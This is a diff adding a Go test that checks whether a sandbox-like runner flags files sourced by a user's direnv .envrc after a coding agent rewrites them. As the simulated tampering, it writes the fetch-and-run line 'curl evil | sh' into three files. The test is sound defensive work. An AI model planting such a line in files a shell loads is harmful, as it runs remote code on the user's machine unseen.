@@ -1,0 +1,55 @@
+package runner
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/sentinelhq/sentinel/internal/journal"
+)
+
+// The person's .envrc loads local/dev.sh and config/dev.vars; a coder rewrites
+// both and a file no .envrc loads (h/ipatk8: direnv re-checks only the
+// .envrc). The end report flags the two it loads, and not the third.
+func TestInPlaceFlagsWhatThePersonsEnvrcLoads(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	root := t.TempDir()
+	for name, body := range map[string]string{
+		"web/.envrc": "source_env_if_exists local/dev.sh\ndotenv ../config/dev.vars\n", "web/local/dev.sh": "export A=1\n",
+		"config/dev.vars": "A=1\n", "notes.sh": "echo notes\n",
+	} {
+		writeTestFile(t, filepath.Join(root, name), body)
+	}
+	p := &Project{Root: root}
+	id := NewRunID(time.Now())
+	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
+	if c == nil {
+		t.Fatal("no checkpoint")
+	}
+	for _, f := range []string{"web/local/dev.sh", "config/dev.vars", "notes.sh"} {
+		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
+	}
+	changes, after, err := c.end(noEmit)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ch := c.report(InPlaceChange{}, changes, after)
+	flagged := map[string]string{}
+	for _, f := range ch.Flagged {
+		flagged[f.Path] = f.Reason
+	}
+	for _, f := range []string{"web/local/dev.sh", "config/dev.vars"} {
+		if !strings.Contains(flagged[f], "web/.envrc loads it") {
+			t.Errorf("%s is not flagged as loaded by the .envrc: %+v", f, ch.Flagged)
+		}
+	}
+	if _, ok := flagged["notes.sh"]; ok {
+		t.Errorf("a file no .envrc loads is flagged: %+v", ch.Flagged)
+	}
+}
